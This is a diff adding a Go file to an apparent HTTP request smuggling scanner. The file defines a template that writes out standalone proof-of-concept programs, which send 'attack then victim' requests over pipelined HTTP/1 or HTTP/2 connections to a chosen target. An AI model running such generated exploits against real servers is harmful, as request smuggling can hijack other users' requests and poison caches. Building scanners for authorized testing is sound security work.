@@ -0,0 +1,124 @@
+package poc
+
+import (
+	"bytes"
+	"go/format"
+	"strconv"
+	"strings"
+	"text/template"
+)
+
+// a program of the smuggler module: it is built with the same clients as the scan, so it needs
+// the repository (go run <file> from its root). the build constraint keeps it out of ./...
+var goTmpl = template.Must(template.New("go").Funcs(template.FuncMap{
+	"quote": strconv.Quote,
+	"lower": strings.ToLower,
+}).Parse(`//go:build ignore
+
+// {{.Technique}} proof of concept for {{.Target}}, generated by smuggler.
+// {{.Technique.Description}}.
+//
+// the requests are sent as they are, the attack then the victim. run it from the root of the
+// smuggler repository: go run <this file>
+package main
+
+import (
+	"fmt"
+	"net/url"
+	"os"
+	"smuggler/smuggler/dialer"
+	"smuggler/smuggler/{{if .H2}}h2{{else}}h1{{end}}"
+	"time"
+)
+
+const target = {{quote .Target}}
+
+// requests of each connection, in order
+{{- if .H2}}
+var conns = [][]*h2.RawRequest{
+{{- range .Conns}}
+	{
+	{{- range .}}
+		{
+			Fields: []h2.Field{
+			{{- range .Fields}}
+				{Name: {{quote .Name}}, Value: {{quote .Value}}},
+			{{- end}}
+			},
+			Body: []byte({{quote .Body}}),
+		},
+	{{- end}}
+	},
+{{- end}}
+}
+{{- else}}
+var conns = [][]string{
+{{- range .Conns}}
+	{
+	{{- range .}}
+		{{quote .Raw}},
+	{{- end}}
+	},
+{{- end}}
+}
+{{- end}}
+
+func main() {
+	u, err := url.Parse(target)
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		os.Exit(1)
+	}
+	var d dialer.Dialer
+	{{- if ne .Dial .Addr}}
+	d = &dialer.Resolver{Hosts: map[string]string{ {{- quote (lower .Addr)}}: {{quote .Dial}}}}
+	{{- end}}
+
+	for i, reqs := range conns {
+{{- if .H2}}
+		c, err := h2.Transport{Timeout: 10 * time.Second, Dialer: d}.Dial(u, h2.H2)
+		if err != nil {
+			fmt.Fprintf(os.Stderr, "connection %d: %v\n", i+1, err)
+			os.Exit(1)
+		}
+		for j, r := range reqs {
+			resp, err := c.DoRaw(r)
+			if err != nil {
+				fmt.Printf("connection %d, request %d: %v\n", i+1, j+1, err)
+				continue
+			}
+			resp.Body.Close()
+			fmt.Printf("connection %d, request %d: %d\n", i+1, j+1, resp.StatusCode)
+		}
+		c.Close()
+{{- else}}
+		c, err := h1.NewClient(u, nil, d)
+		if err != nil {
+			fmt.Fprintf(os.Stderr, "connection %d: %v\n", i+1, err)
+			os.Exit(1)
+		}
+		c.SetDeadline(time.Now().Add(10 * time.Second))
+		resps, err := c.SendPipelinedRequests(reqs...)
+		for j, resp := range resps {
+			fmt.Printf("connection %d, request %d: %s\n", i+1, j+1, resp.Status)
+		}
+		if err != nil {
+			fmt.Printf("connection %d, request %d: %v\n", i+1, len(resps)+1, err)
+		}
+		c.Close()
+{{- end}}
+	}
+}
+`))
+
+func (p *poc) golang() ([]File, error) {
+	var buf bytes.Buffer
+	if err := goTmpl.Execute(&buf, p); err != nil {
+		return nil, err
+	}
+	src, err := format.Source(buf.Bytes())
+	if err != nil {
+		return nil, err
+	}
+	return []File{{Name: ".go", Data: src}}, nil
+}